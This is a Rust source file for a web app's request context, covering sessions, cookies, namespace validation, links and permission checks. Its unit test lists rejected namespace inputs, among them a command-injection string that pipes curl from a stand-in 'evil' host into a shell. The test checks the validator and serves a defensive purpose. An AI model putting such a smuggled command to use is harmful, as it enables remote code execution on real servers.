//! Who asks for which page, and how they want it: everything that a page's handler is given.

use crate::{
    api::Api,
    fault::Fault,
    router::Site,
    session::{SealKey, Session, cookie},
    texts::Zone,
};
use axum::http::{HeaderMap, Uri, request::Parts};
use percent_encoding::percent_decode_str;
use punctual_protocol::{Me, limits::NAME_MAX_CHARS};

pub(crate) const THEME_COOKIE: &str = "punctual_theme";
pub(crate) const ZONE_COOKIE: &str = "punctual_zone";
pub(crate) const FLASH_COOKIE: &str = "punctual_done";
const NAMESPACE: &str = "ns";
const DEFAULT_NAMESPACE: &str = "default";

#[derive(Debug)]
pub(crate) struct Context {
    /// With the caller's token and namespace.
    pub(crate) api: Api,
    pub(crate) me: Me,
    pub(crate) namespace: String,
    pub(crate) path: String,
    params: Vec<(&'static str, String)>,
    query: Vec<(String, String)>,
    pub(crate) zone: Zone,
    /// `light`, `dark`; None: as the system has it.
    pub(crate) theme: Option<&'static str>,
    pub(crate) now_ms: i64,
    /// For a page that is open already: what scripts fill in is left out.
    pub(crate) is_live: bool,
    /// Goes along with every form.
    pub(crate) form_token: String,
    pub(crate) session: Session,
    /// What was done just now.
    pub(crate) flash: Option<String>,
}

/// Of a request, before it is known who is behind it.
pub(crate) struct Visit {
    pub(crate) session: Session,
    pub(crate) key: SealKey,
    pub(crate) now_ms: i64,
}

impl Visit {
    pub(crate) fn of(site: &Site, headers: &HeaderMap) -> Self {
        let now_ms = (site.options.now_ms)();
        let session = Session::of(headers, now_ms, site.options.is_tls);
        let key = session.token().map_or_else(|| site.key.clone(), SealKey::of_token);
        Self { session, key, now_ms }
    }
}

impl Context {
    pub(crate) async fn of(
        site: &Site,
        parts: &Parts,
        uri: &Uri,
        params: Vec<(&'static str, String)>,
    ) -> Result<Self, Fault> {
        let visit = Visit::of(site, &parts.headers);
        let query = pairs(uri.query().unwrap_or_default());
        let namespace = first(&query, NAMESPACE)
            .filter(|namespace| !namespace.is_empty())
            .unwrap_or(DEFAULT_NAMESPACE)
            .to_owned();
        // Not every call looks at it, and every page shows it.
        if !is_name(&namespace) {
            return Err(Fault::Misnamed(format!(
                "{:?} is not a name of a namespace, which Punctual-Namespace would have: 1 to {NAME_MAX_CHARS} of the characters A-Z a-z 0-9 . _ : -.",
                namespace.chars().take(NAME_MAX_CHARS).collect::<String>()
            )));
        }
        let flash = cookie(&parts.headers, FLASH_COOKIE).filter(|cookie| !cookie.is_empty());
        let api = site.api(parts, visit.session.shown(), &namespace);
        // What was done just now is seen.
        let api = if flash.is_some() { api } else { api.lately() };
        let me = api.get("/v1/me").await?;
        Ok(Self {
            api,
            me,
            namespace,
            path: uri.path().to_owned(),
            params,
            query,
            zone: zone(&parts.headers),
            theme: theme(&parts.headers),
            now_ms: visit.now_ms,
            is_live: false,
            form_token: visit.key.form_token(visit.now_ms),
            session: visit.session,
            flash: flash.map(|flash| percent_decode_str(&flash).decode_utf8_lossy().into_owned()),
        })
    }

    /// Of the path; the page's own table says that it is there.
    pub(crate) fn param(&self, name: &str) -> &str {
        self.params.iter().find(|param| param.0 == name).map_or("", |param| &param.1)
    }

    /// Of the query; an empty one is none.
    pub(crate) fn query(&self, name: &str) -> Option<&str> {
        first(&self.query, name).filter(|text| !text.is_empty())
    }

    /// All of this name.
    pub(crate) fn query_all<'a>(&'a self, name: &'a str) -> impl Iterator<Item = &'a str> {
        self.query.iter().filter(move |pair| pair.0 == name).map(|pair| pair.1.as_str())
    }

    /// Of another page, in the same namespace.
    pub(crate) fn href(&self, path: &str, query: &[(&str, &str)]) -> String {
        self.href_in(&self.namespace, path, query)
    }

    pub(crate) fn href_in(&self, namespace: &str, path: &str, query: &[(&str, &str)]) -> String {
        let mut written = form_urlencoded::Serializer::new(String::new());
        if namespace != DEFAULT_NAMESPACE {
            written.append_pair(NAMESPACE, namespace);
        }
        for (name, value) in query.iter().filter(|pair| !pair.1.is_empty()) {
            written.append_pair(name, value);
        }
        let query = written.finish();
        if query.is_empty() { path.to_owned() } else { format!("{path}?{query}") }
    }

    /// Of this page, with one parameter changed; empty takes it away.
    pub(crate) fn here_with(&self, name: &str, value: &str) -> String {
        let kept = self.query.iter().filter(|pair| pair.0 != NAMESPACE && pair.0 != name);
        let mut query: Vec<(&str, &str)> = kept.map(|pair| (pair.0.as_str(), pair.1.as_str())).collect();
        query.push((name, value));
        self.href(&self.path, &query)
    }

    /// Of this page.
    pub(crate) fn here(&self) -> String {
        self.here_with("", "")
    }

    /// Why not, for whoever does not have the permission.
    pub(crate) fn lacks(&self, permission: &str) -> Option<String> {
        if self.me.permissions.iter().any(|candidate| candidate == permission) {
            return None;
        }
        let roles: Vec<&str> = self.me.roles.iter().map(|role| role.word()).collect();
        Some(format!(
            "Needs the permission {permission}, which your role ({}) does not have.",
            roles.join(", ")
        ))
    }

    pub(crate) fn may(&self, permission: &str) -> bool {
        self.lacks(permission).is_none()
    }
}

pub(crate) fn zone(headers: &HeaderMap) -> Zone {
    let name = cookie(headers, ZONE_COOKIE).unwrap_or_default();
    Zone::named(&percent_decode_str(&name).decode_utf8_lossy())
}

pub(crate) fn theme(headers: &HeaderMap) -> Option<&'static str> {
    let name = cookie(headers, THEME_COOKIE).unwrap_or_default();
    ["light", "dark"].into_iter().find(|word| *word == name)
}

pub(crate) fn pairs(query: &str) -> Vec<(String, String)> {
    form_urlencoded::parse(query.as_bytes()).into_owned().collect()
}

fn is_name(text: &str) -> bool {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"._:-".contains(&byte);
    (1..=NAME_MAX_CHARS).contains(&text.len()) && text.bytes().all(is_plain)
}

fn first<'a>(pairs: &'a [(String, String)], name: &str) -> Option<&'a str> {
    pairs.iter().find(|pair| pair.0 == name).map(|pair| pair.1.as_str())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_namespace_is_a_name_or_nothing() {
        assert!(is_name("shop-2.eu:a_B") && is_name(&"a".repeat(128)));
        for bad in ["", "x';curl evil|sh;'", "a b", "ä", "a\n", &"a".repeat(129)] {
            assert!(!is_name(bad), "{bad:?}");
        }
    }
}
